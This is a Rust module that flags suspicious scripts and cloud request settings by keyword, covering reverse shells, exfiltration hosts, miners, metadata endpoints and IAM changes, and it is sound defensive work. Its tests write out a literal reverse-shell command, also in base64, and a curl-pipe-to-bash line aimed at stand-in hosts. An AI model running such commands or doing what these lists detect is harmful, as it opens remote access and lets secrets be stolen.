//! What a script, command line or setting in a request gives away without being shown: words that tell what
//! it does. The text itself may hold secrets and is never kept; its hash and these words are.
//!
//! The words come from published abuse of lifecycle scripts and containers (`HackTricks`, Stratus Red Team,
//! Elastic's detection rules; read 2026-08). Each is weak alone but those that [`is_strong`] names.

use crate::base64;
use std::collections::BTreeSet;

/// Longer texts are looked at up to here, in bytes: `CloudTrail` cuts requests at 100 KB.
const TEXT_BYTES_MAX: usize = 128 << 10;

/// Indicator and what the text contains, in lower case; one of them is enough.
const WORDS: &[(&str, &[&str])] = &[
    ("authorized_keys", &["authorized_keys"]),
    ("base64_decode", &["base64 -d", "base64 --decode", "b64decode"]),
    ("boto3", &["boto3"]),
    ("container_credentials", &["aws_container_credentials", "169.254.170.2"]),
    ("cron", &["crontab", "/etc/cron"]),
    ("environment_dump", &["printenv", "/proc/self/environ", "os.environ"]),
    (
        "exfiltration_host",
        &[
            "ngrok",
            "webhook.site",
            "requestbin",
            "pastebin.com",
            "transfer.sh",
            "burpcollaborator",
            "oast.",
            "interact.sh",
            "discord.com/api/webhooks",
            "api.telegram.org",
            "pipedream.net",
        ],
    ),
    ("fetch", &["curl ", "wget ", "urllib.request", "requests.get("]),
    (
        "iam_change",
        &["aws iam create-", "aws iam attach-", "aws iam put-", "aws iam update-", "create_access_key"],
    ),
    ("inline_code", &["bash -c", "sh -c", "python -c", "python3 -c", "perl -e", "ruby -e"]),
    ("instance_metadata", &["169.254.169.254", "fd00:ec2::254"]),
    ("miner", &["xmrig", "nicehash", "stratum+tcp", "minerd", "kawpow", "ethminer"]),
    (
        "reverse_shell",
        &["/dev/tcp/", "/dev/udp/", "nc -e", "ncat ", "bash -i", "mkfifo", "socat ", "pty.spawn"],
    ),
    ("role_assumption", &["sts assume-role", "assume_role("]),
    ("s3_copy", &["aws s3 cp", "aws s3 sync", "aws s3 mv", "upload_file(", "put_object("]),
];

/// A download that is run at once.
const RUN_AT_ONCE: [&str; 6] = ["| sh", "|sh", "| bash", "|bash", "| sudo bash", "| python"];

/// Is this indicator enough for suspicion, without a second one?
pub fn is_strong(indicator: &str) -> bool {
    matches!(
        indicator,
        "authorized_keys"
            | "container_credentials"
            | "exfiltration_host"
            | "fetch_and_run"
            | "iam_change"
            | "miner"
            | "reverse_shell"
    )
}

/// The indicators of a text, also of one that is base64 all through; sorted.
pub fn of(text: &str) -> BTreeSet<&'static str> {
    let decoded = decoded(text);
    let mut found = in_plain(text);
    found.extend(decoded.as_deref().map(in_plain).unwrap_or_default());
    found
}

fn in_plain(text: &str) -> BTreeSet<&'static str> {
    let end = (0..=text.len().min(TEXT_BYTES_MAX)).rev().find(|end| text.is_char_boundary(*end));
    let lower = text.get(..end.unwrap_or_default()).unwrap_or_default().to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let mut found: BTreeSet<&'static str> =
        WORDS.iter().filter(|(_, words)| has(words)).map(|(name, _)| *name).collect();
    if found.contains("fetch") && has(&RUN_AT_ONCE) {
        found.insert("fetch_and_run");
    }
    found
}

/// The text behind standard base64, when that is what it is: lifecycle scripts are logged so.
pub fn decoded(text: &str) -> Option<String> {
    if text.len() < 8 || text.len() > 3 * TEXT_BYTES_MAX {
        return None;
    }
    String::from_utf8(base64::decode_lines(text)?).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_and_what_is_behind_base64() {
        let check = |text: &str, expect: &str| {
            assert_eq!(of(text).into_iter().collect::<Vec<_>>().join(","), expect, "{text}");
        };
        check("set -e\nsudo -u ec2-user -i echo hello", "");
        check("curl -s https://e.example/x | bash", "fetch,fetch_and_run");
        check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse_shell");
        check("(crontab -l; echo '*/5 * * * * python auto-stop.py') | crontab -", "cron");
        // echo "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" | base64
        check("YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYxCg==", "reverse_shell");
        check("YmFzaC\nAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYxCg==", "reverse_shell");
        check("XMRIG", "miner");
    }

    #[test]
    fn base64_is_strict() {
        let check = |text: &str, expect: Option<&str>| assert_eq!(decoded(text).as_deref(), expect, "{text}");
        check("aGVsbG8gd29ybGQ=", Some("hello world"));
        check("aGVsbG8gdw==", Some("hello w"));
        check("aGVsbG8gd29y", Some("hello wor"));
        for bad in ["", "aGVs", "aGVsbG8", "aG==bG8gd29y", "aGVs bG8_", "////////", "a===b===", "========"] {
            check(bad, None);
        }
    }

    #[test]
    fn strong_ones_are_indicators() {
        let known = |name: &str| WORDS.iter().any(|(word, _)| *word == name) || name == "fetch_and_run";
        for name in ["authorized_keys", "miner", "reverse_shell", "fetch_and_run", "iam_change"] {
            assert!(known(name) && is_strong(name), "{name}");
        }
        assert!(!is_strong("fetch") && !is_strong("cron"));
    }
}
